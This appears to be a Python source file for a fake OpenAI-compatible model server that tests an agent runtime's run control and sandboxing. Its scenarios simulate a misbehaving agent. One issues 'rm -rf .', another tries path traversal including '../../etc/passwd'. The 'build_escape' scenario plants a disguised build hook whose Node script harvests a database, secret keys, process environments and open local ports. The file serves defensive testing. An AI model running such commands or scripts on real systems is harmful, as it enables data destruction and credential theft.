"""An embedded, OpenAI-compatible fake LLM, served by uvicorn over a real loopback socket.

The agent talks to it through the ``openai`` SDK exactly as it talks to a real provider, so
the whole network path (connection pool, SSE parsing, cancellation closing the socket) is
exercised offline. It is the product's offline default and the upstream of tests/benchmarks.

What makes it useful for testing run control:

* every streamed token is its own SSE chunk, paced by ``pace_ms``, so a stop can land
  between tokens, inside a tool call's arguments, or before the first token;
* a watcher task awaits ASGI ``receive()`` during the whole response, so the moment the
  client closes the connection is recorded at once, even while the server sleeps;
* every request is recorded (:class:`Recorder`), readable in-process or over HTTP
  (``GET /_sim/requests``) from a benchmark in another process.

Behaviour is chosen per request by a *scenario*: a ``[sim:NAME key=value ...]`` directive in
the latest user message that has one, else a ``sim-NAME`` model name, else the configured default. A
multi-step scenario derives its position from the request's messages, so the server is
stateless and deterministic across requests.
"""

from __future__ import annotations

import argparse
import asyncio
import collections
import contextlib
import dataclasses
import itertools
import json
import logging
import re
import socket
import threading
import time
from collections.abc import Awaitable, Callable, Coroutine, Iterator, Mapping, MutableMapping, Sequence
from dataclasses import dataclass, field
from types import MappingProxyType, TracebackType
from typing import Any, Literal
from urllib.parse import parse_qs

import uvicorn

from app.agent.prompts import TEMPLATE_MARKER

Scope = MutableMapping[str, Any]
Message = MutableMapping[str, Any]
Receive = Callable[[], Awaitable[Message]]
Send = Callable[[Message], Awaitable[None]]

RUN_ID_HEADER = "x-runforge-run-id"
# The client's own send time (Runforge stamps it: app/llm/client.py); recorded as it came.
SENT_AT_HEADER = "x-runforge-sent-at"
_ARG_FRAGMENT_CHARS = 12  # a tool-argument "token": a few characters, like a real tokenizer
_BATCH_BYTES = 64 * 1024  # unpaced streams are written in batches; one send per chunk is slow
_STARTUP_TIMEOUT_S = 10.0
_JOIN_TIMEOUT_S = 5.0
# A run's prompt is the user's message plus a preset's instruction and the app's current files
# (up to 100,000 chars each): cutting it at the message limit would hide what a test checks.
_RECORDED_PROMPT_CHARS = 400_000
_SHORT_PROMPT_CHARS = 2_000  # what an older record keeps (see Recorder)
DEFAULT_MAX_RECORDS = 10_000
DEFAULT_FULL_PROMPTS = 32


# --------------------------------------------------------------------------- configuration


@dataclass(frozen=True)
class SimulatorConfig:
    pace_ms: float = 15.0
    default_scenario: str = "codegen"
    model: str = "runforge-sim"


# --------------------------------------------------------------------------- recording


@dataclass
class RequestRecord:
    """One chat-completions request as the simulator saw it (times are ``time.monotonic()``)."""

    seq: int
    run_id: str | None
    scenario: str
    model: str
    stream: bool
    started_at: float
    tool_results_seen: int
    tool_names_offered: list[str]
    # The prompt as the model got it (cut to _RECORDED_PROMPT_CHARS), for tests of what a run sends.
    last_user_message: str = ""
    # The request body's top-level fields (tests check what a proxy forwards).
    fields: list[str] = field(default_factory=list)
    # The client's source port: equal for two requests means one pooled connection.
    client_port: int | None = None
    # The bearer token the request carried (a proxy must send its own key, not its client's).
    api_key: str | None = None
    # When the client says it began sending (its wall clock, time.time()), if it said so.
    sent_at: float | None = None
    first_chunk_at: float | None = None
    chunks_sent: int = 0  # SSE events when streaming, response bodies otherwise
    disconnected_at: float | None = None
    finished_at: float | None = None
    status: int | None = None
    error: str | None = None  # set when the handler itself failed or was cancelled

    @property
    def is_open(self) -> bool:
        return self.finished_at is None and self.disconnected_at is None and self.error is None


class Recorder:
    """Thread-safe request log: the app writes from uvicorn's thread, tests read from theirs.

    Every change notifies a condition, so readers block in :meth:`wait_for` instead of polling.
    Sequence numbers are never reused, not even after :meth:`clear`, so a request still in
    flight across a ``clear()`` cannot update somebody else's record.

    Bounded, because the simulator is also `make run`'s model and serves for as long as the
    server does: at most ``max_records`` records (the oldest finished ones go first; a request
    still open is never forgotten, so ``open_requests`` stays true), and only the newest
    ``full_prompts`` keep their prompt up to 400,000 characters; older ones keep its first 2,000.
    """

    def __init__(self, max_records: int = DEFAULT_MAX_RECORDS, full_prompts: int = DEFAULT_FULL_PROMPTS) -> None:
        self._lock = threading.Lock()
        self._changed = threading.Condition(self._lock)
        self._records: dict[int, RequestRecord] = {}
        self._last_seq = 0
        self._max_records = max_records
        self._full_prompts = full_prompts
        self._with_full_prompt: collections.deque[int] = collections.deque()

    def records(self, run_id: str | None = None) -> list[RequestRecord]:
        with self._lock:
            return self._snapshot(run_id)

    def wait_for(self, predicate: Callable[[list[RequestRecord]], bool], timeout: float) -> bool:
        with self._changed:
            return bool(self._changed.wait_for(lambda: predicate(self._snapshot(None)), timeout))

    def open_requests(self) -> int:
        with self._lock:
            return sum(1 for record in self._records.values() if record.is_open)

    def clear(self) -> None:
        with self._changed:
            self._records.clear()
            self._changed.notify_all()

    # The methods below are the app's write side.

    def add(self, record: RequestRecord) -> int:
        with self._changed:
            self._last_seq += 1
            self._records[self._last_seq] = dataclasses.replace(record, seq=self._last_seq)
            self._bound(self._last_seq)
            self._changed.notify_all()
            return self._last_seq

    def _bound(self, newest: int) -> None:
        self._with_full_prompt.append(newest)
        while len(self._with_full_prompt) > self._full_prompts:
            older = self._records.get(self._with_full_prompt.popleft())
            if older is not None:
                older.last_user_message = older.last_user_message[:_SHORT_PROMPT_CHARS]
        excess = len(self._records) - self._max_records
        if excess > 0:  # the oldest finished ones: usually the very oldest, so this stops at once
            finished = (seq for seq, record in self._records.items() if not record.is_open)
            for seq in list(itertools.islice(finished, excess)):
                del self._records[seq]

    def note_status(self, seq: int, status: int) -> None:
        self._update(seq, lambda r: setattr(r, "status", status))

    def note_chunks(self, seq: int, count: int, at: float) -> None:
        def apply(record: RequestRecord) -> None:
            record.chunks_sent += count
            if record.first_chunk_at is None:
                record.first_chunk_at = at

        self._update(seq, apply)

    def note_finished(self, seq: int, at: float) -> None:
        self._update(seq, lambda r: setattr(r, "finished_at", at) if r.is_open else None)

    def note_disconnected(self, seq: int, at: float) -> None:
        # A disconnect after the response completed is just the client closing its socket.
        self._update(seq, lambda r: setattr(r, "disconnected_at", at) if r.is_open else None)

    def note_failed(self, seq: int, error: str) -> None:
        self._update(seq, lambda r: setattr(r, "error", error) if r.is_open else None)

    def _update(self, seq: int, apply: Callable[[RequestRecord], None]) -> None:
        with self._changed:
            record = self._records.get(seq)
            if record is not None:
                apply(record)
                self._changed.notify_all()

    def _snapshot(self, run_id: str | None) -> list[RequestRecord]:
        return [
            dataclasses.replace(record, tool_names_offered=list(record.tool_names_offered), fields=list(record.fields))
            for record in self._records.values()
            if run_id is None or record.run_id == run_id
        ]


# --------------------------------------------------------------------------- scenario model


@dataclass(frozen=True)
class ToolCall:
    name: str
    arguments: str  # raw JSON text, on purpose not a dict: some scenarios send invalid JSON
    fragment_chars: int = _ARG_FRAGMENT_CHARS  # streamed in pieces this long


@dataclass(frozen=True)
class Fault:
    """Something broken injected into a stream after ``after`` tokens."""

    kind: Literal["error", "malformed"]
    after: int


@dataclass(frozen=True)
class Reply:
    text: str = ""
    tool_calls: tuple[ToolCall, ...] = ()
    header_delay_s: float = 0.0  # before the response headers
    first_token_delay_s: float = 0.0  # after the headers, before the first chunk
    fault: Fault | None = None
    http_status: int | None = None  # answer at once with this error status

    @property
    def finish_reason(self) -> str:
        return "tool_calls" if self.tool_calls else "stop"


@dataclass(frozen=True)
class Params:
    """Directive values; ``None`` means "the scenario's default"."""

    pace_ms: float | None = None
    tokens: int | None = None
    delay_s: float | None = None
    files: int | None = None
    status: int | None = None


@dataclass(frozen=True)
class Turn:
    step: int  # completed tool-call rounds so far in this conversation
    params: Params
    # From the system prompt's "Output format: ..." line: html | multi_file | vue_project | "".
    output_format: str = ""


@dataclass(frozen=True)
class Scenario:
    name: str
    reply: Callable[[Turn], Reply]
    default_pace_ms: float | None = None  # None: the config's pace


# --------------------------------------------------------------------------- scenario content

_INDEX_HTML = """<!doctype html>
<html lang="en">
<head>
  <meta charset="utf-8">
  <meta name="viewport" content="width=device-width, initial-scale=1">
  <title>Click Counter</title>
  <link rel="stylesheet" href="style.css">
</head>
<body>
  <main class="card">
    <h1>Click Counter</h1>
    <p>A tiny static site: press the button and watch the number grow.</p>
    <p class="count">Clicks: <span id="count">0</span></p>
    <button id="increment" type="button">Click me</button>
    <button id="reset" type="button" class="secondary">Reset</button>
  </main>
  <script src="script.js"></script>
</body>
</html>
"""

_STYLE_CSS = """* {
  box-sizing: border-box;
}

body {
  margin: 0;
  min-height: 100vh;
  display: grid;
  place-items: center;
  font-family: system-ui, sans-serif;
  background: #f3f4f6;
  color: #111827;
}

.card {
  padding: 2rem 3rem;
  border-radius: 12px;
  background: #ffffff;
  box-shadow: 0 10px 30px rgba(0, 0, 0, 0.08);
  text-align: center;
}

.count {
  font-size: 1.5rem;
}

button {
  margin: 0 0.25rem;
  padding: 0.6rem 1.2rem;
  border: none;
  border-radius: 8px;
  background: #2563eb;
  color: #ffffff;
  font-size: 1rem;
  cursor: pointer;
}

button.secondary {
  background: #6b7280;
}
"""

_SCRIPT_JS = """const countEl = document.getElementById("count");
let count = 0;

function render() {
  countEl.textContent = String(count);
}

document.getElementById("increment").addEventListener("click", () => {
  count += 1;
  render();
});

document.getElementById("reset").addEventListener("click", () => {
  count = 0;
  render();
});

render();
"""

_PROSE = (
    "The simulated model keeps writing so that the agent has a long stream to interrupt. "
    "Each word arrives as its own chunk, paced like a real provider, and nothing here means "
    "anything beyond giving the runtime honest work to cancel at an arbitrary moment. "
    "A careful runtime closes the upstream connection as soon as the user asks it to stop."
)


def _prose(tokens: int) -> str:
    """Deterministic filler text of exactly ``tokens`` words."""
    words = _PROSE.split()
    return " ".join(words[i % len(words)] for i in range(tokens))


def _write(path: str, content: str) -> ToolCall:
    return ToolCall("write_file", json.dumps({"path": path, "content": content}))


def _codegen(turn: Turn) -> Reply:
    if turn.step == 0:
        plan = (
            "I'll build a small static site: a page with a click counter, a stylesheet and a script. "
            "I'll start with the HTML so the other two files have something to hook into."
        )
        return Reply(plan, (_write("index.html", _INDEX_HTML),))
    if turn.step == 1:
        text = "The page is in place. Now the styling and the counter logic."
        return Reply(text, (_write("style.css", _STYLE_CSS), _write("script.js", _SCRIPT_JS)))
    return Reply(
        "The site is ready: index.html links style.css and script.js, and the buttons "
        "increment and reset the counter. Open index.html in a browser to try it."
    )


def _inline_page() -> str:
    """The counter page as one self-contained HTML file (style and script inlined)."""
    page = _INDEX_HTML.replace('  <link rel="stylesheet" href="style.css">\n', f"  <style>\n{_STYLE_CSS}  </style>\n")
    return page.replace('  <script src="script.js"></script>\n', f"  <script>\n{_SCRIPT_JS}  </script>\n")


def _page(turn: Turn) -> Reply:
    """An html / multi_file answer: the files as fenced blocks, no tools."""
    intro = "Here is a small click-counter site."
    outro = "Open index.html to try it: the buttons increment and reset the counter."
    if turn.output_format == "html":
        return Reply(f"{intro} Everything is in one file.\n\n```html\n{_inline_page()}```\n\n{outro}\n")
    blocks = f"```html\n{_INDEX_HTML}```\n\n```css\n{_STYLE_CSS}```\n\n```js\n{_SCRIPT_JS}```"
    return Reply(f"{intro} The page, its stylesheet and its script:\n\n{blocks}\n\n{outro}\n")


def _template_edit(turn: Turn) -> Reply:
    """A run seeded from a preset: look around first, change nothing risky, then exit."""
    if turn.step == 0:
        return Reply("The workspace holds a preset project; let me look at it first.", (_list("."),))
    if turn.step == 1:
        return Reply("Reading the project manifest.", (ToolCall("read_file", json.dumps({"path": "package.json"})),))
    if turn.step == 2:
        return Reply("The preset already matches the request, so I keep it as it is.", (ToolCall("exit", "{}"),))
    return Reply("The project is ready.")


def _vue_app(turn: Turn) -> Reply:
    """A minimal Vite + Vue 3 project written from scratch through the file tools."""
    if turn.step == 0:
        calls = tuple(_write(path, _VUE_FILES[path]) for path in ("package.json", "vite.config.js", "index.html"))
        return Reply("I'll scaffold a small Vite + Vue 3 project: the manifest and entry page first.", calls)
    if turn.step == 1:
        calls = tuple(_write(path, _VUE_FILES[path]) for path in ("src/main.js", "src/App.vue"))
        return Reply("Now the Vue entry point and the counter component.", calls)
    if turn.step == 2:
        return Reply("", (ToolCall("exit", "{}"),))
    return Reply("The Vue project is ready.")


def _list(path: str) -> ToolCall:
    return ToolCall("list_dir", json.dumps({"path": path}))


_VUE_FILES: Mapping[str, str] = MappingProxyType(
    {
        "package.json": json.dumps(
            {
                "name": "runforge-counter",
                "private": True,
                "version": "0.0.0",
                "type": "module",
                "scripts": {"dev": "vite", "build": "vite build", "preview": "vite preview"},
                "dependencies": {"vue": "^3.5.45"},
                "devDependencies": {"@vitejs/plugin-vue": "^6.0.11", "vite": "^8.3.8"},
            },
            indent=2,
        )
        + "\n",
        "vite.config.js": (
            "import { defineConfig } from 'vite'\nimport vue from '@vitejs/plugin-vue'\n\n"
            "// Relative asset URLs: the site is served under /apps/<id>/preview/.\n"
            "export default defineConfig({ base: './', plugins: [vue()] })\n"
        ),
        "index.html": (
            '<!doctype html>\n<html lang="en">\n<head>\n  <meta charset="utf-8">\n'
            '  <meta name="viewport" content="width=device-width, initial-scale=1">\n'
            "  <title>Click Counter</title>\n</head>\n<body>\n"
            '  <div id="app"></div>\n  <script type="module" src="/src/main.js"></script>\n</body>\n</html>\n'
        ),
        "src/main.js": "import { createApp } from 'vue'\nimport App from './App.vue'\n\ncreateApp(App).mount('#app')\n",
        "src/App.vue": (
            "<script setup>\nimport { ref } from 'vue'\n\nconst count = ref(0)\n</script>\n\n"
            '<template>\n  <main class="card">\n    <h1>Click Counter</h1>\n'
            '    <p class="count">Clicks: {{ count }}</p>\n'
            '    <button type="button" @click="count++">Click me</button>\n'
            '    <button type="button" @click="count = 0">Reset</button>\n'
            "  </main>\n</template>\n\n<style>\n.card { font-family: system-ui, sans-serif; text-align: center; }\n"
            ".count { font-size: 1.5rem; }\n</style>\n"
        ),
    }
)


def _long_text(turn: Turn) -> Reply:
    return Reply(_prose(turn.params.tokens or 2000))


def _tools_midstream(turn: Turn) -> Reply:
    files = turn.params.files or 6
    if turn.step >= files:
        return Reply(f"All {files} files are written.")
    n = turn.step + 1
    content = f"This is file number {n}.\n" + _prose(40) + "\n"
    return Reply(f"Writing file {n} of {files}.", (_write(f"file_{n}.txt", content),))


def _slow_first_token(turn: Turn) -> Reply:
    delay = 30.0 if turn.params.delay_s is None else turn.params.delay_s
    return dataclasses.replace(_long_text(turn), first_token_delay_s=delay)


def _slow_headers(turn: Turn) -> Reply:
    delay = 30.0 if turn.params.delay_s is None else turn.params.delay_s
    return dataclasses.replace(_long_text(turn), header_delay_s=delay)


def _error_midstream(turn: Turn) -> Reply:
    return Reply(_prose(40), fault=Fault("error", after=20))


def _http_error(turn: Turn) -> Reply:
    return Reply(http_status=turn.params.status or 500)


def _malformed(turn: Turn) -> Reply:
    return Reply(_prose(20), fault=Fault("malformed", after=10))


def _huge(turn: Turn) -> Reply:
    return Reply(_prose(turn.params.tokens or 200_000))


def _bad_tool_args(turn: Turn) -> Reply:
    if turn.step == 0:
        broken = ToolCall("write_file", '{"path": "broken.txt", "content": "unterminated')
        return Reply("Writing the file now.", (broken,))
    if turn.step == 1:
        return Reply(
            "My previous call had malformed arguments; let me fix it.",
            (_write("fixed.txt", "Fixed content.\n"),),
        )
    return Reply("fixed.txt is written with valid arguments.")


def _unknown_tool(turn: Turn) -> Reply:
    if turn.step == 0:
        return Reply("Let me clean up first.", (ToolCall("run_shell", json.dumps({"command": "rm -rf ."})),))
    return Reply("There is no shell tool, so I leave the files as they are.")


# Over Runforge's limit on one call's arguments (2 MiB, app/tools/specs.py), sent in big pieces:
# a fault, not a realistic token stream, and 12-character pieces would take seconds.
_HUGE_ARGUMENT_CHARS = 3 * 1024 * 1024
_HUGE_FRAGMENT_CHARS = 64 * 1024


def _huge_tool_args(turn: Turn) -> Reply:
    if turn.step == 0:
        content = "x" * _HUGE_ARGUMENT_CHARS
        call = ToolCall("write_file", json.dumps({"path": "big.txt", "content": content}), _HUGE_FRAGMENT_CHARS)
        return Reply("Writing everything into one file.", (call,))
    if turn.step == 1:
        return Reply("That was too large; a small file instead.", (_write("small.txt", "Small content.\n"),))
    return Reply("small.txt is written.")


_ESCAPE_CALLS = (
    _write("../escape.txt", "outside the workspace\n"),
    _write("/tmp/runforge-escape.txt", "absolute path\n"),
    ToolCall("read_file", json.dumps({"path": "../../etc/passwd"})),
    _write("a\u0000b.txt", "NUL in the name\n"),
)


def _escape(turn: Turn) -> Reply:
    if turn.step < len(_ESCAPE_CALLS):
        return Reply("Trying another path.", (_ESCAPE_CALLS[turn.step],))
    return Reply("I tried every path I wanted to try.")


# A build script that tries what a prompt-injected model would (issue 16's reproduction): copy the
# server's database, preview-link secret and login token into the workspace, read every process's
# environment and working directory it can see, list the other apps, and connect to every port
# listening on the host. It writes what it got to leak-report.json, then a site, so the build passes.
_LEAK_JS = r"""
const fs = require('fs');
const net = require('net');
const path = require('path');
const report = { read: {}, listed: {}, connected: [], fds: [] };
function steal(file) {
  try {
    const data = fs.readFileSync(file);
    report.read[file] = data.toString('latin1').slice(0, 2000);
    fs.writeFileSync('stolen-' + file.replace(/[^\w.-]/g, '_'), data);
  } catch (error) {
    report.read[file] = 'ERR ' + error.code;
  }
}
['../../runforge.db', '../../preview-key', '../../local-token'].forEach(steal);
for (const pid of fs.readdirSync('/proc').filter((name) => /^\d+$/.test(name))) {
  steal(`/proc/${pid}/environ`);
  try { report.listed[`/proc/${pid}/cwd`] = fs.readdirSync(`/proc/${pid}/cwd`).join(','); } catch (error) {}
}
try { report.listed['..'] = fs.readdirSync('..').join(','); } catch (error) { report.listed['..'] = error.code; }
for (const fd of fs.readdirSync('/proc/self/fd')) {
  try { report.fds.push(`${fd} -> ${fs.readlinkSync(`/proc/self/fd/${fd}`)}`); } catch (error) {}
}
const ports = new Set([5432, 6379, 8000]);
for (const table of ['/proc/net/tcp', '/proc/net/tcp6']) {
  try {
    for (const line of fs.readFileSync(table, 'utf8').split('\n').slice(1)) {
      const columns = line.trim().split(/\s+/);
      if (columns[3] === '0A') ports.add(parseInt(columns[1].split(':').pop(), 16));
    }
  } catch (error) {}
}
const tries = [...ports].map((port) => new Promise((resolve) => {
  const socket = net.connect({ host: '127.0.0.1', port, timeout: 2000 });
  socket.on('connect', () => { report.connected.push(port); socket.destroy(); resolve(); });
  socket.on('timeout', () => { socket.destroy(); resolve(); });
  socket.on('error', () => resolve());
}));
Promise.all(tries).then(() => {
  fs.writeFileSync('leak-report.json', JSON.stringify(report, null, 1));
  const out = process.argv[process.argv.indexOf('--outDir') + 1];
  fs.mkdirSync(out, { recursive: true });
  fs.writeFileSync(path.join(out, 'index.html'), '<h1>Nothing to see here</h1>');
});
"""
_LEAK_PACKAGE = json.dumps({"name": "innocent-site", "private": True, "scripts": {"build": "node leak.js"}}, indent=2)


def _build_escape(turn: Turn) -> Reply:
    if turn.step == 0:
        return Reply("Setting up the build.", (_write("package.json", _LEAK_PACKAGE), _write("leak.js", _LEAK_JS)))
    if turn.step == 1:
        return Reply("", (ToolCall("exit", "{}"),))
    return Reply("The site is ready.")


# A Vite config that prints a line and then waits for ever: a build a stop is sure to land in.
_WAITING_VITE_CONFIG = """\
// Written by the simulator's slow_build scenario: the build waits here until it is stopped.
console.log("slow build: waiting to be stopped")
await new Promise(() => setInterval(() => {}, 60_000))
"""


def _slow_build(turn: Turn) -> Reply:
    if turn.step == 0:
        return Reply("Tuning the build configuration.", (_write("vite.config.js", _WAITING_VITE_CONFIG),))
    if turn.step == 1:
        return Reply("", (ToolCall("exit", "{}"),))
    return Reply("The build is configured.")


def _loop(turn: Turn) -> Reply:
    return Reply("Let me look at the directory again.", (ToolCall("list_dir", '{"path": "."}'),))


def _exit_tool(turn: Turn) -> Reply:
    if turn.step == 0:
        return Reply("Writing the page.", (_write("index.html", _INDEX_HTML),))
    if turn.step == 1:
        return Reply("", (ToolCall("exit", "{}"),))
    return Reply("I already finished; there is nothing left to do.")


SCENARIOS: Mapping[str, Scenario] = MappingProxyType(
    {
        s.name: s
        for s in (
            Scenario("codegen", _codegen),
            Scenario("long_text", _long_text),
            Scenario("tools_midstream", _tools_midstream),
            Scenario("slow_first_token", _slow_first_token),
            Scenario("slow_headers", _slow_headers),
            Scenario("error_midstream", _error_midstream),
            Scenario("http_error", _http_error),
            Scenario("malformed", _malformed),
            Scenario("huge", _huge, default_pace_ms=0.0),
            Scenario("bad_tool_args", _bad_tool_args),
            Scenario("unknown_tool", _unknown_tool),
            Scenario("huge_tool_args", _huge_tool_args, default_pace_ms=0.0),
            Scenario("escape", _escape),
            Scenario("loop", _loop),
            Scenario("exit_tool", _exit_tool),
            Scenario("build_escape", _build_escape),
            Scenario("slow_build", _slow_build),
            Scenario("page", _page),
            Scenario("template_edit", _template_edit),
            Scenario("vue_app", _vue_app),
        )
    }
)


# --------------------------------------------------------------------------- request parsing


class RequestError(Exception):
    """A client error, answered with an OpenAI-style error body."""

    def __init__(self, message: str, code: str, status: int = 400) -> None:
        super().__init__(message)
        self.message, self.code, self.status = message, code, status


@dataclass(frozen=True)
class ChatRequest:
    model: str
    stream: bool
    include_usage: bool
    messages: list[dict[str, Any]]
    tool_names: list[str]
    run_id: str | None
    fields: list[str] = field(default_factory=list)
    sent_at: float | None = None


_DIRECTIVE = re.compile(r"\[sim:(?P<name>[\w-]+)(?P<args>[^\]]*)\]")
# directive key -> (Params field, converter)
_PARAM_TYPES: Mapping[str, tuple[str, Callable[[str], float | int]]] = MappingProxyType(
    {
        "pace": ("pace_ms", float),
        "tokens": ("tokens", int),
        "delay": ("delay_s", float),
        "files": ("files", int),
        "status": ("status", int),
    }
)


def parse_chat_request(body: bytes, headers: Mapping[str, str], default_model: str) -> ChatRequest:
    try:
        data = json.loads(body)
    except (ValueError, UnicodeDecodeError) as exc:
        raise RequestError(f"request body is not valid JSON: {exc}", "invalid_json") from exc
    if not isinstance(data, dict):
        raise RequestError("request body must be a JSON object", "invalid_request")
    messages = data.get("messages")
    if not isinstance(messages, list) or not all(isinstance(m, dict) for m in messages):
        raise RequestError("'messages' must be a list of objects", "invalid_messages")
    options = data.get("stream_options")
    return ChatRequest(
        model=str(data.get("model") or default_model),
        stream=data.get("stream") is True,
        include_usage=isinstance(options, dict) and options.get("include_usage") is True,
        messages=messages,
        tool_names=_tool_names(data.get("tools")),
        run_id=headers.get(RUN_ID_HEADER),
        sent_at=_float_or_none(headers.get(SENT_AT_HEADER)),
        fields=sorted(data),
    )


def _float_or_none(text: str | None) -> float | None:
    try:
        return float(text) if text is not None else None
    except ValueError:
        return None


def _tool_names(tools: object) -> list[str]:
    if not isinstance(tools, list):
        return []
    functions = (t.get("function") for t in tools if isinstance(t, dict))
    return [str(f.get("name")) for f in functions if isinstance(f, dict) and f.get("name")]


def _message_text(message: Mapping[str, Any]) -> str:
    content = message.get("content")
    if isinstance(content, str):
        return content
    if isinstance(content, list):  # content parts: [{"type": "text", "text": ...}, ...]
        return " ".join(str(p.get("text", "")) for p in content if isinstance(p, dict))
    return ""


def resolve_scenario(request: ChatRequest, config: SimulatorConfig) -> tuple[Scenario, Params]:
    """The latest user message's directive, else ``sim-NAME`` model, else what Runforge's
    prompts ask for: ``page`` when no tools are offered (html / multi_file answers),
    ``template_edit`` when the last user message carries a preset's instruction, ``vue_app``
    for a vue_project system prompt; else the configured default."""
    match = _latest_directive(request.messages)
    if match:
        return _scenario(match["name"]), _parse_params(match["args"])
    if request.model.startswith("sim-"):
        return _scenario(request.model.removeprefix("sim-")), Params()
    if not request.tool_names:
        return _scenario("page"), Params()
    if TEMPLATE_MARKER in _last_user_text(request.messages):
        return _scenario("template_edit"), Params()
    if output_format(request.messages) == "vue_project":
        return _scenario("vue_app"), Params()
    return _scenario(config.default_scenario), Params()


def _latest_directive(messages: Sequence[Mapping[str, Any]]) -> re.Match[str] | None:
    """The directive of the latest user message that has one: a run's own directive wins, and a
    follow-up without one goes on with the scenario of the conversation's earlier messages."""
    for message in reversed(messages):
        match = _DIRECTIVE.search(_message_text(message)) if message.get("role") == "user" else None
        if match:
            return match
    return None


_OUTPUT_FORMAT = re.compile(r"^Output format: (\w+)", re.MULTILINE)


def output_format(messages: Sequence[Mapping[str, Any]]) -> str:
    """The "Output format: X" line of the system prompt, if any."""
    system = next((m for m in messages if m.get("role") == "system"), None)
    found = _OUTPUT_FORMAT.search(_message_text(system)) if system else None
    return found.group(1) if found else ""


def _scenario(name: str) -> Scenario:
    scenario = SCENARIOS.get(name)
    if scenario is None:
        known = ", ".join(SCENARIOS)
        raise RequestError(f"unknown simulator scenario {name!r} (known: {known})", "unknown_scenario")
    return scenario


def _parse_params(args: str) -> Params:
    values: dict[str, Any] = {}
    for item in args.split():
        key, _, raw = item.partition("=")
        if key not in _PARAM_TYPES or not raw:
            raise RequestError(f"bad simulator directive argument {item!r}", "bad_directive")
        name, convert = _PARAM_TYPES[key]
        try:
            value = convert(raw)
        except ValueError as exc:
            raise RequestError(f"bad value in simulator directive: {item!r}", "bad_directive") from exc
        if value < 0:
            raise RequestError(f"negative value in simulator directive: {item!r}", "bad_directive")
        values[name] = value
    return dataclasses.replace(Params(), **values)


def conversation_step(messages: Sequence[Mapping[str, Any]]) -> int:
    """Completed tool rounds: assistant tool-call turns, or runs of tool results.

    Counting runs (not tool messages) keeps a round with two parallel calls one step, and
    taking the max still works for a client that does not echo assistant ``tool_calls``.
    """
    calls = sum(1 for m in messages if m.get("role") == "assistant" and m.get("tool_calls"))
    runs, previous = 0, None
    for message in messages:
        role = message.get("role")
        runs += role == "tool" and previous != "tool"
        previous = role
    return max(calls, runs)


# --------------------------------------------------------------------------- rendering


def _json(value: object) -> bytes:
    return json.dumps(value, separators=(",", ":"), ensure_ascii=False).encode()


def _error_body(message: str, kind: str, code: str) -> bytes:
    return _json({"error": {"message": message, "type": kind, "code": code}})


def _text_tokens(text: str) -> Iterator[str]:
    # A word with its leading whitespace is one token; joined, the tokens give back ``text``.
    return (m.group() for m in re.finditer(r"\s*\S+|\s+", text))


def _call_id(step: int, index: int) -> str:
    return f"call_sim_{step}_{index}"


def deltas(reply: Reply, step: int) -> Iterator[dict[str, Any]]:
    """The reply as OpenAI streaming deltas, one per token; the role rides on the first."""
    if reply.text or not reply.tool_calls:
        yield {"role": "assistant", "content": ""}
        for token in _text_tokens(reply.text):
            yield {"content": token}
    for index, call in enumerate(reply.tool_calls):
        function = {"name": call.name, "arguments": ""}
        head = {"index": index, "id": _call_id(step, index), "type": "function", "function": function}
        first: dict[str, Any] = {"tool_calls": [head]}
        if index == 0 and not reply.text:  # as OpenAI does: no text, so the role comes with the call
            first = {"role": "assistant", "content": None} | first
        yield first
        for start in range(0, len(call.arguments), call.fragment_chars):
            piece = call.arguments[start : start + call.fragment_chars]
            yield {"tool_calls": [{"index": index, "function": {"arguments": piece}}]}


@dataclass(frozen=True)
class _Envelope:
    """The fields every chunk/completion of one response shares."""

    id: str
    model: str
    created: int = field(default_factory=lambda: int(time.time()))

    def chunk(self, choices: list[dict[str, Any]], **extra: Any) -> bytes:
        base = {"id": self.id, "object": "chat.completion.chunk", "created": self.created}
        return _json(base | {"model": self.model, "choices": choices} | extra)

    def completion(self, reply: Reply, step: int, usage: dict[str, int]) -> bytes:
        message: dict[str, Any] = {"role": "assistant", "content": reply.text or None}
        if reply.tool_calls:
            message["tool_calls"] = [_full_call(step, i, call) for i, call in enumerate(reply.tool_calls)]
        choice = {"index": 0, "message": message, "finish_reason": reply.finish_reason, "logprobs": None}
        base = {"id": self.id, "object": "chat.completion", "created": self.created, "model": self.model}
        return _json(base | {"choices": [choice], "usage": usage})


def _full_call(step: int, index: int, call: ToolCall) -> dict[str, Any]:
    function = {"name": call.name, "arguments": call.arguments}
    return {"id": _call_id(step, index), "type": "function", "function": function}


def _usage(request: ChatRequest, completion_tokens: int) -> dict[str, int]:
    prompt_tokens = max(1, len(_json(request.messages)) // 4)  # the usual ~4 chars per token
    total = prompt_tokens + completion_tokens
    return {"prompt_tokens": prompt_tokens, "completion_tokens": completion_tokens, "total_tokens": total}


# --------------------------------------------------------------------------- one HTTP exchange


class _ClientGone(Exception):
    """``send`` failed: the client went away (ASGI servers raise OSError then)."""


class _Exchange:
    """The send side of one recorded response; every write is reflected in the record."""

    def __init__(self, send: Send, recorder: Recorder, seq: int) -> None:
        self._send, self._recorder, self.seq = send, recorder, seq

    async def start(self, status: int, headers: list[tuple[bytes, bytes]]) -> None:
        await self._deliver({"type": "http.response.start", "status": status, "headers": headers})
        self._recorder.note_status(self.seq, status)

    async def body(self, data: bytes, *, events: int, more: bool) -> None:
        await self._deliver({"type": "http.response.body", "body": data, "more_body": more})
        now = time.monotonic()
        if events:
            self._recorder.note_chunks(self.seq, events, now)
        if not more:
            self._recorder.note_finished(self.seq, now)

    async def json(self, status: int, body: bytes, extra: Sequence[tuple[bytes, bytes]] = ()) -> None:
        await self.start(status, [*_json_headers(body), *extra])
        await self.body(body, events=1, more=False)

    def note_disconnect(self) -> None:
        self._recorder.note_disconnected(self.seq, time.monotonic())

    async def _deliver(self, message: Message) -> None:
        try:
            await self._send(message)
        except OSError as exc:
            self.note_disconnect()
            raise _ClientGone from exc


class _EventWriter:
    """Writes SSE ``data:`` events, one per paced token, batching them when unpaced."""

    def __init__(self, exchange: _Exchange, pace_s: float) -> None:
        self._exchange, self._pace_s = exchange, pace_s
        self._buffer = bytearray()
        self._pending = 0

    async def event(self, data: bytes, *, paced: bool = True) -> None:
        if paced and self._pace_s > 0:
            await asyncio.sleep(self._pace_s)
        self._buffer += b"data: " + data + b"\n\n"
        self._pending += 1
        if self._pace_s > 0 or len(self._buffer) >= _BATCH_BYTES:
            await self._flush(more=True)

    async def close(self) -> None:
        await self._flush(more=False)

    async def _flush(self, *, more: bool) -> None:
        data, events = bytes(self._buffer), self._pending
        self._buffer.clear()
        self._pending = 0
        await self._exchange.body(data, events=events, more=more)
        if more and self._pace_s == 0:
